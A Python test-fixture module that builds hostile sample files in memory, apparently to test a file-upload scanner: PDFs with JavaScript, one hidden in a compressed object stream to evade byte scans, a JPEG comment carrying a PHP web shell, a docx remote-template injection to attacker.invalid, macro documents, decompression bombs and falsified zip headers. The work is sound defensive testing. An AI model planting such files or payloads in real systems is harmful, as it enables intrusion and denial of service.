"""Clean and hostile files, built in memory so that no sample malware is kept in the repository."""

import hashlib
import io
import struct
import zipfile
import zlib

import docx
from PIL import Image, ImageDraw, ImageFont
from pypdf import PdfReader, PdfWriter

# The EICAR anti-virus test file: harmless, and detected as a virus by design. Its 68 bytes are
# assembled from two halves so that this source file is not itself flagged by scanners.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
assert len(EICAR) == 68
EICAR_MD5 = hashlib.md5(EICAR).hexdigest()  # noqa: S324 - ClamAV's .hdb format is MD5


# --- PDF -----------------------------------------------------------------------------------------


def _pdf_stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(content), extra, content)


def build_pdf(objects: list[bytes], *, trailer_extra: bytes = b"", tail: bytes = b"") -> bytes:
    """A PDF with a correct cross-reference table; objects are numbered from 1, 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    # Bytes after the last object but outside the xref: only a byte scan or a lenient viewer
    # sees them.
    out += tail
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer_extra,
        xref_at,
    )
    return bytes(out)


def pdf_document(
    text: str = "Hello evidence",
    *,
    catalog_extra: bytes = b"",
    page_extra: bytes = b"",
    extra_objects: tuple[bytes, ...] = (),
    tail: bytes = b"",
) -> bytes:
    """A one-page PDF showing `text`; extra objects are numbered from 6."""
    content = b"BT /F1 18 Tf 72 720 Td (%s) Tj ET" % text.encode("latin-1")
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b" >>",
            _pdf_stream(content),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *extra_objects,
        ],
        tail=tail,
    )


def pdf_with_script_in_object_stream() -> bytes:
    """JavaScript inside a compressed object stream: invisible to a byte scan, found by parsing.

    PDF 1.5 layout: objects 1-5 plain, object 6 (the action) packed in object stream 7, and a
    cross-reference stream (object 8) that says where each object is.
    """
    action = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
    header = b"6 0 "
    packed = zlib.compress(header + action)
    plain = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        _pdf_stream(b"BT /F1 18 Tf 72 720 Td (Hidden) Tj ET"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in enumerate(plain, start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets[7] = len(out)
    out += b"7 0 obj\n%s\nendobj\n" % _pdf_stream(
        packed, b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode " % len(header)
    )
    offsets[8] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, 9):
        if number == 6:
            rows.append(struct.pack(">BIH", 2, 7, 0))
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    xref = zlib.compress(b"".join(rows))
    out += b"8 0 obj\n%s\nendobj\n" % _pdf_stream(
        xref, b"/Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[8]
    # The byte scan must really be blind here, or this file would not prove the parser's worth.
    assert b"JavaScript" not in out
    return bytes(out)


def _rewrite_with_pypdf(data: bytes, change) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_encrypted() -> bytes:
    return _rewrite_with_pypdf(pdf_document("Secret"), lambda w: w.encrypt("open-sesame"))


def pdf_with_attachment() -> bytes:
    return _rewrite_with_pypdf(
        pdf_document(), lambda w: w.add_attachment("payload.exe", b"MZ" + b"\x00" * 64)
    )


def pdf_with_document_script() -> bytes:
    """Document-level JavaScript in the catalog's name tree, run by viewers when the file opens."""
    return pdf_document(
        catalog_extra=b"/Names << /JavaScript 6 0 R >>",
        extra_objects=(
            b"<< /Names [(init) 7 0 R] >>",
            b"<< /S /JavaScript /JS (app.alert\\(document.title\\)) >>",
        ),
    )


def pdf_scanned(text: str) -> bytes:
    """A 'scanned' page: the words exist only as pixels in an image, as from a scanner."""
    buffer = io.BytesIO()
    text_image(text).save(buffer, "PDF", resolution=150)
    return buffer.getvalue()


# --- images --------------------------------------------------------------------------------------


def text_image(text: str, size: tuple[int, int] = (1400, 220)) -> Image.Image:
    image = Image.new("RGB", size, "white")
    draw = ImageDraw.Draw(image)
    draw.text((40, 60), text, fill="black", font=ImageFont.load_default(size=64))
    return image


def image_bytes(fmt: str, *, size=(40, 30), colour=(200, 30, 30), **save_options) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, colour).save(buffer, fmt, **save_options)
    return buffer.getvalue()


def jpeg_with_gps_and_orientation(orientation: int = 1) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation  # Orientation
    exif[0x010F] = "PhoneMaker"  # Make
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"  # GPSLatitudeRef
    gps[2] = (51.0, 30.0, 0.0)  # GPSLatitude: near Westminster
    gps[3] = "W"
    gps[4] = (0.0, 7.0, 0.0)
    return image_bytes(
        "JPEG", size=(60, 20), exif=exif.tobytes(), comment=b"<?php system($_GET[1]); ?>"
    )


def png_header_only_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A PNG that claims 10 gigapixels in a few hundred bytes: decoding it would exhaust memory."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (width + 1) * 4, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def png_with_text_chunk(text: bytes) -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", text.decode())
    return image_bytes("PNG", pnginfo=info)


# --- zips and Word documents ----------------------------------------------------------------------

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.wordprocessingml.document.main+xml"/></Types>'
)


def zip_bytes(
    entries: list[tuple[str | zipfile.ZipInfo, bytes]], *, compression=zipfile.ZIP_DEFLATED
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return buffer.getvalue()


def docx_document(*paragraphs: str, table: list[list[str]] | None = None) -> bytes:
    document = docx.Document()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    if table:
        grid = document.add_table(rows=len(table), cols=len(table[0]))
        for r, row in enumerate(table):
            for c, value in enumerate(row):
                grid.cell(r, c).text = value
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def docx_with_added_parts(
    base: bytes, extra: dict[str, bytes], replace: dict[str, bytes] | None = None
) -> bytes:
    replace = replace or {}
    entries = []
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        for info in archive.infolist():
            entries.append((info.filename, replace.get(info.filename, archive.read(info))))
    entries.extend(extra.items())
    return zip_bytes(entries)


def docm_renamed() -> bytes:
    """A macro-enabled document (.docm) as Word writes it, to be uploaded under a .docx name."""
    base = docx_document("Please enable editing and content")
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        types = archive.read("[Content_Types].xml")
    types = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    ).replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    return docx_with_added_parts(
        base,
        {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name" * 20},
        replace={"[Content_Types].xml": types},
    )


def docx_remote_template() -> bytes:
    """Remote template injection: settings.xml.rels fetches a template from a server on open."""
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return docx_with_added_parts(docx_document("Template"), {"word/_rels/settings.xml.rels": rels})


def docx_shaped_zip(*extra: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    """The two parts that make a zip look like a Word document, plus whatever else is given."""
    return zip_bytes(
        [("[Content_Types].xml", CONTENT_TYPES), ("word/document.xml", b"<w:document/>"), *extra]
    )


def symlink_entry(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = 0o120777 << 16
    return info, target.encode()


def zip_with_encrypted_entry() -> bytes:
    """A zip whose entry is marked as encrypted (zipfile cannot write one, so the flag is set)."""
    data = bytearray(docx_shaped_zip())
    position = 0
    # General purpose flags: offset 6 in each local header, offset 8 in each central entry.
    while (position := data.find(b"PK\x03\x04", position)) != -1:
        data[position + 6] |= 0x1
        position += 4
    position = 0
    while (position := data.find(b"PK\x01\x02", position)) != -1:
        data[position + 8] |= 0x1
        position += 4
    return bytes(data)


def zip_bomb_entry(size: int = 60 * 1024 * 1024) -> tuple[str, bytes]:
    """Tens of megabytes of zeros, which deflate to a few tens of kilobytes."""
    return "word/media/filler.bin", bytes(size)


def zip_with_understated_size(actual: int = 3 * 1024 * 1024, declared: int = 1000) -> bytes:
    """A zip whose directory says an entry is small while its data inflates to much more."""
    data = bytearray(docx_shaped_zip(("word/big.xml", b"A" * actual)))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("word/big.xml")
        local = info.header_offset
    # Local header: uncompressed size at offset 22; central directory entry: at offset 24.
    struct.pack_into("<I", data, local + 22, declared)
    position = 0
    while (position := data.find(b"PK\x01\x02", position)) != -1:
        name_length = struct.unpack_from("<H", data, position + 28)[0]
        if data[position + 46 : position + 46 + name_length] == b"word/big.xml":
            struct.pack_into("<I", data, position + 24, declared)
            break
        position += 4
    return bytes(data)


# --- executables and other things that must never be stored ---------------------------------------


def windows_executable() -> bytes:
    """Enough of a PE file for content detection: MZ header pointing at a PE signature."""
    dos = bytearray(b"MZ" + b"\x90\x00" + b"\x00" * 60)
    struct.pack_into("<I", dos, 0x3C, 64)
    return bytes(dos) + b"PE\x00\x00" + struct.pack("<HH", 0x14C, 1) + b"\x00" * 200


def elf_executable() -> bytes:
    header = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + struct.pack("<HHI", 2, 0x3E, 1)
    return header + b"\x00" * 200


def email_message(*, html_only: bool = False) -> bytes:
    from email.message import EmailMessage

    message = EmailMessage()
    message["From"] = "Patient Advice <pals@trust.nhs.invalid>"
    message["To"] = "complainant@example.invalid"
    message["Subject"] = "Your complaint about ward 7"
    message["Date"] = "Tue, 14 Jan 2025 09:30:00 +0000"
    if html_only:
        message.set_content(
            "<html><head><style>p{}</style></head><body><p>We have <b>reviewed</b> your "
            "complaint.</p><script>alert(1)</script></body></html>",
            subtype="html",
        )
    else:
        message.set_content("We have reviewed your complaint and apologise for the delay.")
        message.add_attachment(
            b"%PDF-1.4 minutes",
            maintype="application",
            subtype="pdf",
            filename="meeting-minutes.pdf",
        )
    return bytes(message)
